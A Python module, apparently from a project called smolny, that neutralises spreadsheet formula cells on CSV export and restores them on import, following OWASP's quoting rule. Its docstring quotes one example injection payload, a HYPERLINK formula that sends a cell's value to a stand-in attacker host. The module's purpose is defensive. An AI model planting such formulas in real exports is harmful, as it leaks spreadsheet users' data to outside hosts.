"""Cells a spreadsheet would run as a formula, neutralised on export and read back as they were.

A name such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` is only text to
smolny, but a spreadsheet that opens an exported file runs it (CSV injection). The
export follows OWASP's rule: a cell that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return is written after a single quote, which spreadsheets read as "text
follows". The import undoes exactly that, so that a secretary who exports a roster,
edits it and imports it again gets the names back as they were, not with a quote in
front. A cell that already begins with quotes before such a character gets one more,
so that it too reads back unchanged.
"""

from __future__ import annotations

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _runs(cell: str) -> bool:
    # a cell a spreadsheet would run, once any quotes in front of it are read as text
    return cell.lstrip(QUOTE).startswith(FORMULA_LEADS)


def neutralised(cell: str) -> str:
    """`cell` as an export writes it: after a single quote when a spreadsheet would run it."""
    return QUOTE + cell if _runs(cell) else cell


def restored(cell: str) -> str:
    """A cell of an imported file as it was before `neutralised` (one quote fewer in front
    of a cell a spreadsheet would run; any other cell as it is)."""
    if cell.startswith(QUOTE) and _runs(cell):
        return cell[1:]
    return cell
